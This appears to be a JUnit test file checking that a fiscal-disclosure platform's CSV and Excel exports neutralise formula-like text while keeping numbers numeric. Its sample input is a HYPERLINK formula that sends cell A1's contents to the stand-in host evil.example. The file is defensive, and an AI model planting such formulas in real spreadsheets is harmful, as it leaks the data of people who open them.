package org.fiscaldisclosure.platform.xlsx;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.fiscaldisclosure.contracts.validation.Finding;
import org.fiscaldisclosure.contracts.validation.Severity;
import org.fiscaldisclosure.platform.validation.FindingsCsv;
import org.junit.jupiter.api.Test;

/** Text a spreadsheet would run is neutralised in every CSV and workbook; numbers stay numbers. */
class FormulaTextTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    @Test
    void theCharactersThatStartAFormulaAreTheOnesOwaspLists() {
        for (String s : List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK)) {
            assertTrue(FormulaText.formulaLike(s), s);
            assertEquals("'" + s, FormulaText.csv(s));
        }
        for (String s : List.of("", "行政运行", "1-1", "a=b", " =1", "（=）", "'quoted")) {
            assertFalse(FormulaText.formulaLike(s), s);
            assertEquals(s, FormulaText.csv(s));
        }
    }

    @Test
    void theFindingsCsvQuotesFormulaLikeTextAndKeepsNegativeNumbers() {
        Finding f = new Finding("PR-X-001", Severity.WARNING, "procurement", "表12", "@row", "-col", new BigDecimal("-12.50"),
                new BigDecimal("0"), new BigDecimal("-12.50"), HYPERLINK);
        String csv = FindingsCsv.write(List.of(f));
        String row = csv.split("\r\n")[1];
        assertEquals("PR-X-001,WARNING,procurement,表12,'@row,'-col,-12.50,0,-12.50,"
                + "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"", row);
    }

    @Test
    void aWorkbookMarksFormulaLikeTextCellsQuotePrefixedAndLeavesTheirTextAndTheNumbersAlone() throws IOException {
        byte[] bytes;
        try (WorkbookWriter w = new WorkbookWriter()) {
            w.sheet("表12", 3).title("政府购买服务").header(List.of("项目", "金额", "说明"))
                    .row(List.of(CellValue.text(HYPERLINK), CellValue.wanYuan(org.fiscaldisclosure.contracts.value.Amount.of("100.00")),
                            CellValue.text("行政运行")))
                    .row(List.of(CellValue.text("-"), new CellValue.Percent(new BigDecimal("-5")), CellValue.text("+86")));
            bytes = w.toBytes();
        }
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            XSSFSheet s = wb.getSheetAt(0);
            XSSFCell link = s.getRow(2).getCell(0);
            assertEquals(CellType.STRING, link.getCellType());
            assertEquals(HYPERLINK, link.getStringCellValue());
            assertTrue(link.getCellStyle().getQuotePrefixed());
            assertTrue(link.getCellStyle().getBorderTop() == s.getRow(2).getCell(2).getCellStyle().getBorderTop(),
                    "the quoted style is a copy of the text style");
            assertFalse(s.getRow(2).getCell(2).getCellStyle().getQuotePrefixed());
            assertEquals(CellType.NUMERIC, s.getRow(2).getCell(1).getCellType());
            assertTrue(s.getRow(3).getCell(0).getCellStyle().getQuotePrefixed());
            assertTrue(s.getRow(3).getCell(2).getCellStyle().getQuotePrefixed());
            XSSFCell negative = s.getRow(3).getCell(1);
            assertEquals(CellType.NUMERIC, negative.getCellType());
            assertEquals(-0.05, negative.getNumericCellValue(), 1e-12);
            assertFalse(negative.getCellStyle().getQuotePrefixed());
        }
    }
}
